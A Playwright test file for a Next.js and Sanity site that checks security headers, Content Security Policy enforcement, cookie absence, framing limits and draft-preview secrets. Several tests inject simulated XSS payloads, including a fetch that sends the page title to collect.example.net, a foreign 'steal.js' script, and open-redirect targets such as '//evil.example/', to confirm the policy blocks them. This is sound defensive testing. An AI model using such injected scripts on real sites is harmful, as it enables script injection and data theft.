import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { vercelStegaDecodeAll, vercelStegaSplit } from '@vercel/stega';
import { E2E_STUDIO_ORIGIN, E2E_STUDIO_PORT, serveFramingPage, type FramingPage } from './support/framing.ts';
import { mutate, query } from './support/lake-admin.ts';
import { PAGE_TYPES } from './support/pages.ts';

const englishMessages = JSON.parse(readFileSync(new URL('../src/i18n/messages/en.json', import.meta.url), 'utf8')) as {
  Error: { lead: string };
};

// What every visitor gets: security headers on every response, a CSP the pages actually satisfy, no request to
// anyone but the site, no cookies, and no framing by another origin.

const OTHER_ENDPOINTS = ['/feed.xml', '/sitemap.xml', '/robots.txt', '/llms.txt', '/es/llms.txt', '/es/feed.xml'];
const ALL_PATHS = [...PAGE_TYPES.map((page) => page.path), ...OTHER_ENDPOINTS];

const REQUIRED_HEADERS = {
  'strict-transport-security': /max-age=\d{7,}/,
  'x-content-type-options': /^nosniff$/,
  'referrer-policy': /^strict-origin-when-cross-origin$/,
  'permissions-policy': /camera=\(\).*microphone=\(\).*geolocation=\(\)/,
  'content-security-policy': /frame-ancestors 'self'/,
};

function directive(policy: string, name: string): string {
  return (policy.split(';').map((part) => part.trim()).find((part) => part.startsWith(`${name} `)) ?? '').slice(name.length + 1);
}

/** Every source of every directive but frame-ancestors is a keyword or a scheme: no origin but the site's own. */
function foreignSources(policy: string): string[] {
  return policy
    .split(';')
    .map((part) => part.trim().split(/\s+/))
    .filter(([name]) => name && name !== 'frame-ancestors')
    .flatMap(([, ...values]) => values)
    .filter((value) => !/^'[a-z-]+'$/.test(value) && !/^(data|blob):$/.test(value));
}

for (const path of ALL_PATHS) {
  test(`${path} carries every security header, the cached-page policy and no cookie`, async ({ request }) => {
    const response = await request.get(path, { maxRedirects: 0 });
    const headers = response.headers();
    for (const [name, pattern] of Object.entries(REQUIRED_HEADERS)) {
      expect(headers[name], name).toMatch(pattern);
    }
    const policy = headers['content-security-policy']!;
    // One cached HTML for every visitor: Next's inline bootstrap is allowed, script files only from the site.
    expect(directive(policy, 'script-src')).toBe("'self' 'unsafe-inline'");
    expect(directive(policy, 'default-src')).toBe("'self'");
    expect(directive(policy, 'connect-src')).toBe("'self'");
    expect(directive(policy, 'object-src')).toBe("'none'");
    expect(directive(policy, 'base-uri')).toBe("'self'");
    expect(directive(policy, 'form-action')).toBe("'self'");
    expect(directive(policy, 'frame-ancestors')).toBe(`'self' ${E2E_STUDIO_ORIGIN}`);
    expect(foreignSources(policy)).toEqual([]);
    expect(headers['set-cookie']).toBeUndefined();
  });
}

/** Records CSP violations (as the page reports them) and every request the page makes. */
async function watch(page: Page) {
  const violations: string[] = [];
  const requests: string[] = [];
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const store = ((window as unknown as { __cspViolations?: string[] }).__cspViolations ??= []);
      store.push(`${event.violatedDirective} blocked ${event.blockedURI || 'inline'}`);
    });
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  page.on('request', (request) => requests.push(request.url()));
  return {
    violations: async () => [
      ...violations,
      ...(await page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? [])),
    ],
    requests,
  };
}

for (const { name, path } of PAGE_TYPES) {
  test(`the ${name} page runs under its CSP without a violation and talks only to the site`, async ({ page, baseURL }) => {
    const watched = await watch(page);
    const cookies: string[] = [];
    page.on('response', async (response) => {
      const setCookie = await response.headerValue('set-cookie');
      if (setCookie) cookies.push(`${response.url()}: ${setCookie}`);
    });
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    // The framework's scripts did run (allowed by the policy): React hydrated the page.
    await expect.poll(() => page.evaluate(() => '__next_f' in self)).toBe(true);
    expect(await watched.violations()).toEqual([]);
    const origin = new URL(baseURL!).origin;
    const foreign = watched.requests.filter((url) => !url.startsWith(`${origin}/`) && !/^(data|blob):/.test(url));
    expect(foreign).toEqual([]);
    expect(cookies).toEqual([]);
    expect(await page.context().cookies()).toEqual([]);
  });
}

/** Serves /contact with `extra` added to its HTML, standing for stored XSS in the cached page. */
async function injectIntoContact(page: Page, extra: string) {
  await page.route('**/contact', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('</main>', `${extra}</main>`);
    await route.fulfill({ response, body: html });
  });
}

test('a script from another origin injected into the HTML is blocked and never fetched', async ({ page }) => {
  const watched = await watch(page);
  // The foreign origin answers (through the test's router) with a script that would leave a mark if it ran.
  const fetched: string[] = [];
  await page.route('https://scripts.example.net/**', async (route) => {
    fetched.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: 'window.__stolen = true;' });
  });
  await injectIntoContact(page, '<script src="https://scripts.example.net/steal.js"></script>');
  await page.goto('/contact');
  await page.waitForLoadState('networkidle');
  expect((await watched.violations()).join('\n')).toMatch(/script-src.*blocked https:\/\/scripts\.example\.net/);
  expect(await page.evaluate(() => (window as unknown as { __stolen?: boolean }).__stolen)).toBeUndefined();
  expect(fetched).toEqual([]);
});

test('injected code can neither eval, nor send what it reads to another origin, nor embed a plugin', async ({ page }) => {
  const watched = await watch(page);
  // What the cached-page policy still refuses to an inline script that got in (see docs/security.md).
  await injectIntoContact(
    page,
    `<script>
      try { eval('window.__evaluated = true'); } catch {}
      fetch('https://collect.example.net/?d=' + encodeURIComponent(document.title)).catch(() => {});
    </script><object data="https://plugins.example.net/x.swf"></object><base href="https://base.example.net/">`,
  );
  await page.goto('/contact');
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => (window as unknown as { __evaluated?: boolean }).__evaluated)).toBeUndefined();
  const violations = (await watched.violations()).join('\n');
  expect(violations).toMatch(/script-src.*eval/);
  expect(violations).toMatch(/connect-src.*collect\.example\.net/);
  expect(violations).toMatch(/object-src/);
  expect(violations).toMatch(/base-uri/);
  expect(watched.requests.filter((url) => /example\.net/.test(url))).toEqual([]);
});

test.describe('framing', () => {
  let stranger: FramingPage | undefined;
  let studio: FramingPage | undefined;
  test.afterEach(async () => {
    await stranger?.close();
    await studio?.close();
    stranger = studio = undefined;
  });

  test('another origin cannot frame the site', async ({ page, baseURL }) => {
    stranger = await serveFramingPage(`${baseURL}/contact`);
    await page.goto(stranger.url);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    await expect(page.frameLocator('iframe').locator('main')).toHaveCount(0);
  });

  test('the Studio origin may frame the site (Presentation tool)', async ({ page, baseURL }) => {
    studio = await serveFramingPage(`${baseURL}/contact`, E2E_STUDIO_PORT);
    await page.goto(studio.url);
    await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toBeVisible();
  });
});

test.describe('draft preview', () => {
  const SECRET = `e2e-preview-secret-${Date.now()}`;
  const SECRET_ID = 'sanity-preview-url-secret.e2e';
  const ARTICLE_ID = 'article-ketamine-and-anxiety-early-research';
  const ARTICLE_PATH = '/articles/ketamine-and-anxiety-early-research';
  const DRAFT_TITLE = 'Unpublished wording an editor is still working on';

  test.beforeAll(async () => {
    const article = await query<Record<string, unknown>>('*[_id == $id][0]', { id: ARTICLE_ID });
    await mutate([
      // What the Presentation tool stores before it opens the preview: a short-lived secret in the dataset.
      { createOrReplace: { _id: SECRET_ID, _type: 'sanity.previewUrlSecret', secret: SECRET, studioUrl: E2E_STUDIO_ORIGIN, source: 'e2e' } },
      { createOrReplace: { ...article, _id: `drafts.${ARTICLE_ID}`, title: DRAFT_TITLE } },
    ]);
  });

  test.afterAll(async () => {
    await mutate([{ delete: { id: SECRET_ID } }, { delete: { id: `drafts.${ARTICLE_ID}` } }]);
  });

  test('a wrong secret is refused and sets no cookie', async ({ page }) => {
    const response = await page.goto(`/api/draft-mode/enable?sanity-preview-secret=not-the-secret&sanity-preview-pathname=${ARTICLE_PATH}`);
    expect(response?.status()).toBe(401);
    expect(await page.context().cookies()).toEqual([]);
    await page.goto(ARTICLE_PATH);
    await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(DRAFT_TITLE);
  });

  test('a redirect to another site is refused, even with the right secret', async ({ request }) => {
    for (const target of ['//evil.example/', '/\\evil.example', 'https://evil.example/']) {
      const search = new URLSearchParams({ 'sanity-preview-secret': SECRET, 'sanity-preview-pathname': target });
      const response = await request.get(`/api/draft-mode/enable?${search}`, { maxRedirects: 0 });
      expect(response.status(), target).toBe(400);
      expect(response.headers()['location']).toBeUndefined();
    }
  });

  /** Opens the preview the way the Presentation tool does; the browser then carries the draft-mode cookie. */
  async function enterPreview(page: Page) {
    const search = new URLSearchParams({ 'sanity-preview-secret': SECRET, 'sanity-preview-pathname': ARTICLE_PATH });
    await page.goto(`/api/draft-mode/enable?${search}`);
  }

  test('the right secret shows drafts on that page until preview is left; visitors never see them', async ({ page, browser }) => {
    await enterPreview(page);
    expect(new URL(page.url()).pathname).toBe(ARTICLE_PATH);
    // The local lake answers with Content Source Maps, so the visible title carries invisible edit links (stega).
    const heading = page.getByRole('heading', { level: 1 });
    await expect.poll(async () => vercelStegaSplit((await heading.textContent()) ?? '').cleaned).toBe(DRAFT_TITLE);

    const visitor = await browser.newPage();
    await visitor.goto(ARTICLE_PATH);
    await expect(visitor.getByRole('heading', { level: 1 })).not.toHaveText(DRAFT_TITLE);
    await visitor.close();

    await page.getByRole('link', { name: 'Leave preview' }).click();
    await page.goto(ARTICLE_PATH);
    await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(DRAFT_TITLE);
  });

  test('in preview, edit links ride only on visible prose: never in the head, attributes or structured data', async ({ page }) => {
    await enterPreview(page);
    const hasStega = (value: string | null) => (vercelStegaDecodeAll(value ?? '') ?? []).length > 0;
    const title = await page.getByRole('heading', { level: 1 }).textContent();
    expect(hasStega(title), 'the visible title links back to its field in the Studio').toBe(true);
    expect(vercelStegaDecodeAll(title ?? '')?.[0]).toMatchObject({ origin: 'sanity.io' });

    const head = await page.evaluate(() => ({
      title: document.title,
      metas: [...document.head.querySelectorAll('meta')].map((meta) => meta.getAttribute('content') ?? ''),
      links: [...document.head.querySelectorAll('link')].map((link) => link.getAttribute('href') ?? ''),
      jsonLd: [...document.querySelectorAll('script[type="application/ld+json"]')].map((script) => script.textContent ?? ''),
      attributes: [...document.body.querySelectorAll('*')].flatMap((element) =>
        ['href', 'src', 'srcset', 'alt', 'aria-label', 'datetime', 'title'].map((name) => element.getAttribute(name) ?? ''),
      ),
    }));
    expect(head.title).toContain(DRAFT_TITLE);
    for (const value of [head.title, ...head.metas, ...head.links, ...head.jsonLd, ...head.attributes]) {
      expect(hasStega(value), value.slice(0, 120)).toBe(false);
    }
  });

  /** Collects the text of every script file the page loads from now on. */
  function recordScripts(page: Page): () => Promise<string[]> {
    const scripts: Promise<string>[] = [];
    page.on('response', (response) => {
      if (response.request().resourceType() === 'script') scripts.push(response.text());
    });
    return () => Promise.all(scripts);
  }

  // The Presentation tool's click-to-edit overlays are a large bundle (next-sanity's visual editing): editors get
  // it in preview, visitors must never download or run it. Its custom element's name marks the bundle.
  test("visitors' pages load no visual-editing code; preview pages do", async ({ page, browser }) => {
    const isVisualEditing = (text: string) => text.includes('sanity-visual-editing');
    // The root layout decides which scripts every page loads, so one visitor's page stands for all of them.
    const visitor = await browser.newPage();
    const visitorScripts = recordScripts(visitor);
    await visitor.goto(ARTICLE_PATH);
    await visitor.waitForLoadState('networkidle');
    const loaded = await visitorScripts();
    await visitor.close();
    expect(loaded.length).toBeGreaterThan(0);
    expect(loaded.filter(isVisualEditing)).toEqual([]);

    const previewScripts = recordScripts(page);
    await enterPreview(page); // lands on ARTICLE_PATH in preview
    await expect
      .poll(async () => (await previewScripts()).some(isVisualEditing), { timeout: 30_000 })
      .toBe(true);
  });

  // The error boundaries' view carries next-intl's formatter and both languages' messages (about 50 kB of
  // script): every page has the boundaries, so their view is loaded only when an error is shown.
  test("visitors' pages load no error-view code until an error is shown", async ({ page }) => {
    const errorLead = englishMessages.Error.lead;
    const scripts = recordScripts(page);
    await page.goto(ARTICLE_PATH);
    await page.waitForLoadState('networkidle');
    const loaded = await scripts();
    expect(loaded.length).toBeGreaterThan(0);
    expect(loaded.filter((text) => text.includes(errorLead))).toEqual([]);
  });

  test('preview pages are rendered per request under a nonce policy, never cached', async ({ page }) => {
    await enterPreview(page);
    const nonces = new Set<string>();
    for (const path of [ARTICLE_PATH, ARTICLE_PATH, '/articles?topic=anxiety']) {
      const response = await page.request.get(path);
      const headers = response.headers();
      const scripts = directive(headers['content-security-policy']!, 'script-src');
      expect(scripts).toMatch(/^'self' 'nonce-[A-Za-z0-9+/=]{16,}' 'strict-dynamic'$/);
      const nonce = /'nonce-([^']+)'/.exec(scripts)![1]!;
      nonces.add(nonce);
      // Next stamped this response's nonce on the scripts it wrote: the page was rendered for this request.
      expect(await response.text()).toContain(`nonce="${nonce}"`);
      expect(headers['cache-control']).toMatch(/no-store/);
    }
    expect(nonces.size).toBe(3);
  });

  test('in preview an injected inline script is blocked and the page runs without a violation', async ({ page }) => {
    await enterPreview(page);
    const watched = await watch(page);
    await page.goto('/articles?topic=anxiety');
    await page.waitForLoadState('networkidle');
    await expect.poll(() => page.evaluate(() => '__next_f' in self)).toBe(true);
    expect(await watched.violations()).toEqual([]);

    await injectIntoContact(page, '<script>window.__injected = true</script>');
    await page.goto('/contact');
    await expect(page.getByRole('link', { name: 'Leave preview' })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
    expect((await watched.violations()).join('\n')).toMatch(/script-src/);
  });
});
